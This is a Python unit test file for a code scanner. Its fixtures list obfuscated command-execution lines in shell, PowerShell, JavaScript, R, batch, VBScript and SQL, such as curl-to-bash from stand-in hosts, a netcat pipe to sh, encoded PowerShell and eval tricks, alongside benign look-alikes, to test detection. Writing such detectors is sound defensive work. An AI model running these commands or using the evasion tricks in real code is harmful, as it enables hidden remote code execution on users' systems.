"""Commands and code written so that nobody finds them, in languages read line by line, each beside what looks like it."""

import pytest

from scanners.engine import EngineStatus
from scanners.engines.flows import FlowsEngine
from tests.unit.test_secrets import look

B64 = "aW1wb3J0IG9z"
URL = "https://tools.example/x"
HIDDEN = {
    "a.sh": [
        f'bash -c "$(base64 -d <<< {B64})"', f"$(echo {B64} | base64 -d)", f"`echo {B64} | base64 -d`", f"source <(echo {B64} | base64 -d)",
        f'. /dev/stdin <<< "$(echo {B64} | base64 -d)"', f"echo {B64} | base64 --decode > a.sh\nchmod +x a.sh\n./a.sh", "printf '\\x69\\x64' | sh",
        f"$'\\x63\\x75\\x72\\x6c' -s {URL} | cat", f"c\"\"u'r'l -s {URL}", f"c\\url -s {URL}", f"a=cu; b=rl; $a$b -s {URL}", f"x=abcurl; ${{x:2}} -s {URL}",
        f"wget -q {URL} -O /tmp/x\nchmod +x /tmp/x\n/tmp/x", f"curl -so x.sh {URL}\nbash x.sh", f"curl -fsSLO {URL}/inst.sh\nsh ./inst.sh",
        f"curl {URL} > i.sh; bash i.sh", f"curl -o get.py {URL}\npython3 get.py", f"curl -s {URL}.tgz | tar xz && ./install.sh",
        f"busybox wget -qO- {URL} | busybox sh", f"curl -s {URL} | /usr/bin/env bash", "nc 203.0.113.9 4444 | sh", f"alias g=curl\ng -s {URL} | bash",
        "g() { cat x; }\ng | bash", "#!/bin/sh\n''''exec python3 \"$0\" \"$@\" # '''\nimport os",
        "python3 - <<'EOF'\nimport pickle\npickle.load(f)\nexec(x)\nEOF", f"python3 -c \"import base64;exec(base64.b64decode('{B64}'))\"",
        "python3 <<EOF\nn = '$USER'\nexec(open('x').read())\nEOF",
    ],
    "a.ps1": [
        "powershell.exe /enc SQBFAFgAIAAoAE4A", "PoWeRsHeLl -eNcOdEdCoMm SQBFAFgAIAAoAE4A", "powershell –EncodedCommand SQBFAFgAIAAoAE4A",
        "powershell -EncodedCommand:SQBFAFgAIAAoAE4A", f"i`e`x (irm {URL})", f"& ('i' + 'ex') (irm {URL})", f"&(\"{{1}}{{0}}\" -f 'x','ie') (irm {URL})",
        "$c = 'ie' + 'x'\n& $c $code", "$f = 'Invoke-Expression'; & $f $code", "& (Get-Command i*x) $code", "& (gcm *ke-e*) $code",
        "& ($env:ComSpec[4,24,25] -join '') $code", "Set-Alias go Invoke-Expression", f"iwr {URL}.ps1 -OutFile x.ps1\n.\\x.ps1",
        f'cmd /c "curl {URL} -o x.bat && x.bat"', "$x=[char]105+[char]101+[char]120; & $x $c", "&([string]::join('', ([char[]](105,101,120)))) $c",
    ],
    "a.js": [
        "[]['constructor']['constructor'](atob('eA=='))()", "(()=>{}).constructor('return process')()", "globalThis['ev' + 'al'](x)", "global['eval'](x)",
        "(0, eval)(x)", "const e = eval; e(x)", "Reflect.apply(eval, null, [x])", "eval.call(null, x)", "eval`x`", "Function`return 1```",
        "require('child_process')['ex' + 'ec']('curl https://x.example/a | sh')", "require('child_' + 'process').exec('curl https://x.example/a | sh')",
        "const m = 'child_process'; require(m)", "setTimeout(atob('eA=='), 1)", "\\u0065val(x)", "ev\\u{61}l(x)", "global['\\x65val'](x)",
        "WebAssembly.instantiate(b)", "globalThis[atob('ZXZhbA==')](x)", "let f = Function; f('return 1')()", "process.dlopen(module, 'x.node')",
        "require(Buffer.from('Y2hpbGQ=', 'base64').toString())", "import {exec as e} from 'child_process'", "const {exec:e} = require('child_process')",
        "Object.getPrototypeOf(async function(){}).constructor('x')()", "exec(Buffer.from('Y3VybA==', 'base64').toString())",
    ],
    "a.R": [
        "e <- parse(text = x)\neval(e)", "do.call('system', list('ls'))", "do.call(paste0('sys', 'tem'), list('ls'))", "match.fun(paste0('sys', 'tem'))('ls')",
        "get('system')('ls')", "source(exprs = parse(text = x))", "f <- base::system", "sapply(x, eval)", "Map(system, x)", "(function(f) f('ls'))(system)",
    ],
    "a.bat": [
        "for /f %%i in ('curl -s https://x.example/a') do %%i", "certutil -decode a.txt a.exe & a.exe", "set x=po& call %x%%y% -enc", "mshta vbscript:Execute(\"x\")",
        "p^owersh^ell -e^nc SQBFAFgAIAAoAE4A", "%comspec:~0,1%url https://x.example", "curl https://x.example/a.exe -o a.exe & a.exe"],
    "a.vbs": ["CreateObject(\"WScript.Shell\").Run Chr(99) & Chr(109) & Chr(100)"],
    "a.sql": ["declare @c varchar(99) = 'xp_cmd' + 'shell'; exec @c 'dir'"],
}  # fmt: skip
PLAIN = {
    "a.sh": [
        "base64 -d < key.b64 > key.pem\nchmod 600 key.pem\nssh -i key.pem h", "curl -o data.csv https://tools.example/data.csv\npython3 load.py data.csv",
        "curl -o a.sh https://git.corp.local/a.sh\nbash a.sh", "printf '%s\\n' \"$x\" | sort", "echo \"it's $name's turn\"", "$PYTHON report.py", "\"$DIR\"/run --now",
        "printf '\\033[31mred\\033[0m\\n'", "curl -s https://x.example/a | jq .", "cat list | xargs -n1 echo", "exec python3 app.py \"$@\"", "x=${name:0:3}",
        "python3 - <<'EOF'\nimport json\nprint(json.load(open('a.json')))\nEOF", "python3 -c 'print(1 + 1)'", "ls | while read f; do echo \"$f\"; done",
        "curl -s -o /dev/null -w '%{http_code}' https://x.example\necho null",
    ],
    "a.ps1": [
        "& \"C:\\Program Files\\x\\y.exe\" -q", "& $exe -run", "& (Join-Path $PSScriptRoot 'b.ps1')", "Write-Host 'a' + 'b'", "$msg = 'linha`nnova'",
        "$x = \"a\" + $b", "$letters = [char[]](65..90)", "$tab = [char]9 + 'a'", "Get-Command git", "powershell -File .\\b.ps1 -e prod", "Set-Alias ll Get-ChildItem", "iwr https://x.example/d.csv -OutFile d.csv\nImport-Csv d.csv",
    ],
    "a.js": [
        "const total = evaluate(rows);", "obj.evaluate(x)", "// eval, never", "const s = 'use of eval, is bad'.length", "class A { constructor(x) { this.x = x; } }",
        "setTimeout(run, 10)", "const s = 'a\\u00e7\\u00e3o (x)'", "const o = rows['name']", "const r = /\\x41/", "x = { devtool: 'eval' }",
    ],
    "a.R": ["do.call(rbind, parts)", "sapply(x, mean)", "get('rows')", "match.fun('mean')(x)", "x <- system.file('a')", "d <- parse_date_time(x, 'ymd')"],
    "a.bat": ["echo 2^>1", "set d=%date:~0,4%", "copy a.txt %date:~0,4%.txt"],
    "a.vbs": ["x = \"a\" & Chr(13) & Chr(10) & \"b\"", "y = Chr(34) & name & Chr(34)"],
    "a.sql": ["exec sp_helpdb 'x'"],
}  # fmt: skip


def told(vault_key, path, source):
    report = look(FlowsEngine(vault_key), source.encode(), path)
    assert report.status is EngineStatus.COMPLETE, report.reason
    return bool({"flows.runs-unreviewed-code", "flows.hides-what-it-runs"} & {one.rule for one in report.findings})


@pytest.mark.parametrize(("path", "source"), [(path, source) for path, sources in HIDDEN.items() for source in sources])
def test_it_is_told(vault_key, path, source):
    assert told(vault_key, path, source)


@pytest.mark.parametrize(("path", "source"), [(path, source) for path, sources in PLAIN.items() for source in sources])
def test_what_only_looks_like_it_is_not(vault_key, path, source):
    assert not told(vault_key, path, source)


@pytest.mark.parametrize("source", ["python3 - <<'EOF'\nthis is (not python\nEOF\n", "python3 -c 'x = 1'\n" * 60])
def test_python_within_a_shell_that_is_not_read_is_a_reason_for_doubt(vault_key, source):
    assert look(FlowsEngine(vault_key), source.encode(), "a.sh").status is EngineStatus.PARTIAL
